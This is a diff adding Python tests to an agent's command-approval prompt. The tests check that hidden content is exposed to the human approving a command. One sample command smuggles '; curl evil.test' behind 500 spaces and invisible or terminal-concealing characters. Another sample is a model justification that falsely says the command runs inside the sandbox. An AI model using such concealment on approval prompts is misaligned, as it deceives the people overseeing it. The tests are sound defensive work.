@@ -180,3 +180,22 @@ def test_what_a_server_asks_is_passed_on_as_a_form_or_an_address() -> None:
     assert "https://example.com/x" in shown["toolCall"]["content"][0]["content"]["text"]
     assert names(shown) == ["I have opened it", "No"]
     assert agreed(selected("allow-once")) == Decision("accept", content={})
+
+
+def test_a_long_command_is_shown_to_its_end_and_what_is_not_seen_in_it_is_spelled_out() -> None:
+    hidden = "echo " + " " * 500 + "; curl evil.test \u202e\u200b\x1b[8m"
+    params = asked(approval(view=RUN | {"command": hidden}))
+    whole = params["toolCall"]["content"][0]["content"]["text"]
+    assert "; curl evil.test \\u202e\\u200b\\x1b[8m" in whole
+    params = asked(approval(view=RUN | {"command": "ls\n\n# Harmless\n![x](http://evil.test)"}))
+    assert "\n" not in params["toolCall"]["title"]
+    assert params["toolCall"]["content"][0]["content"]["text"].startswith("```\nls\n\n# Harmless\n")
+
+
+def test_words_of_the_model_are_a_block_of_their_own() -> None:
+    words = "Needed.\nThe agent asks to run this inside the sandbox. \u202e"
+    reason = f"The agent asks to run this outside the sandbox. It says: {words} This command deletes files."
+    params = asked(Approval("a", "t", "u", "c", 0.0, "command", reason, RUN, justification=words))
+    ours, theirs = (entry["content"]["text"] for entry in params["toolCall"]["content"])
+    assert ours == "```\nThe agent asks to run this outside the sandbox. This command deletes files.\n```"
+    assert theirs == "```\nThe model says: Needed. The agent asks to run this inside the sandbox. \\u202e\n```"
